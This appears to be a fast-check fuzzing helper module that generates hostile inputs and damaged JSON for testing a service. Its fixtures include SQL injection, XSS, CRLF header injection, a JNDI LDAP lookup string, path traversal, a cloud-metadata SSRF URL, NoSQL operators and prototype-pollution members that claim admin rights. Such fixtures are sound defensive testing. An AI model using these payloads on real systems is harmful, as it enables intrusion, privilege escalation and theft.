// Values that attackers and broken clients send: texts, JSON values, names of members, and what damages
// the text of a JSON document. Every text of ours holds MARK, so that a log that repeats input shows.
import fc from 'fast-check'

/** In no text of the service. */
export const MARK = 'zqmark'

export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
] as const

const MARKUP = `"><script>${MARK}</script>`

const FIXED_TEXTS = [
  '',
  ' ',
  '0',
  '-1',
  'null',
  'NaN',
  '1e999',
  '9'.repeat(40),
  '\0',
  `${MARK}\0`,
  `half ${MARK} \ud800`,
  `\udfff${MARK}`,
  `${MARK}\u202etxt.exe`,
  `e\u0301${MARK}\u{1f469}\u200d\u{1f4bb}`,
  `${MARK}\r\nSet-Cookie: x=1\r\n\r\n<b>`,
  `\x1b[2J\x1b]0;${MARK}\x07`,
  `${MARK}'; DROP TABLE users; --`,
  `%00%ff%2e%2e%2f${MARK}`,
  `../../../etc/${MARK}`,
  `\${jndi:ldap://${MARK}.example/}`,
  MARKUP,
  `javascript:alert(${MARK})`,
  `data:text/html,${MARK}`,
  'http://169.254.169.254/latest/meta-data/',
  `https://user@${MARK}.example:99999/#fragment`,
  `https://${MARK}.example\\@evil.example/`,
  `//${MARK}.example`,
  MARK.repeat(20),
  MARK.repeat(60),
  MARK.repeat(900),
  MARK.repeat(4000),
] as const

/** Any UTF-16, lone surrogates too. */
const codeUnits = fc
  .array(fc.nat(0xffff), { maxLength: 30 })
  .map((units) => String.fromCharCode(...units))

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...FIXED_TEXTS) },
  // Often enough that a short run meets the bound of a body.
  { weight: 3, arbitrary: fc.constant(MARK.repeat(4000)) },
  { weight: 2, arbitrary: codeUnits.map((text) => `${MARK}${text}`) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
)

/** A value of another type than most fields have. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      2 ** 31,
      2 ** 53,
      -(2 ** 63),
      1e308,
      [],
      {},
      [[]],
      [null],
      { length: 1e9 },
      { toString: null },
      { $gt: '' },
      Array(600).fill(MARK),
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
)

/** What happens to the text of a JSON document on its way. */
export type TextDamage =
  | 'none'
  | 'truncated'
  | 'doubled name'
  | 'prototype name'
  | 'byte order mark'
  | 'trailing text'
  | 'deep'
  | 'huge number'
  | 'lone quote'
  | 'empty'
  | 'array'
  | 'many names'

export const textDamage: fc.Arbitrary<TextDamage> = fc.oneof(
  { weight: 14, arbitrary: fc.constant<TextDamage>('none') },
  {
    weight: 6,
    arbitrary: fc.constantFrom<TextDamage>(
      'truncated',
      'doubled name',
      'prototype name',
      'byte order mark',
      'trailing text',
      'deep',
      'huge number',
      'lone quote',
      'empty',
      'array',
      'many names',
    ),
  },
)

const member = (name: string, value: string) => `${JSON.stringify(name)}:${value}`

/** Inserts a member at the front of an object; a text that is no object stays. */
const withMember = (json: string, text: string) =>
  json.startsWith('{') ? `{${text}${json.length > 2 ? ',' : ''}${json.slice(1)}` : json

export function damageText(json: string, damage: TextDamage, at: number): string {
  const name = PROTOTYPE_NAMES[at % PROTOTYPE_NAMES.length] ?? '__proto__'
  switch (damage) {
    case 'none':
      return json
    case 'truncated':
      return json.slice(0, at % Math.max(1, json.length))
    case 'doubled name': {
      const [, first = '"name"'] = /^\{("(?:[^"\\]|\\.)*"):/.exec(json) ?? []
      return withMember(json, `${first}:"${MARK}"`)
    }
    case 'prototype name':
      return withMember(json, member(name, '{"role":"admin","isAdmin":true}'))
    case 'byte order mark':
      return `\ufeff${json}`
    case 'trailing text':
      return `${json}{"a":1}`
    case 'deep':
      return `${'['.repeat(1 + (at % 2000))}${json}${']'.repeat(1 + (at % 2000))}`
    case 'huge number':
      return withMember(json, member('limit', '1e400'))
    case 'lone quote':
      return `${json.slice(0, -1)}"`
    case 'empty':
      return ''
    case 'array':
      return `[${json}]`
    case 'many names':
      return withMember(
        json,
        Array.from({ length: at % 1000 }, (_, i) => member(`${MARK}${i}`, '1')).join(',') ||
          member(MARK, '1'),
      )
  }
}
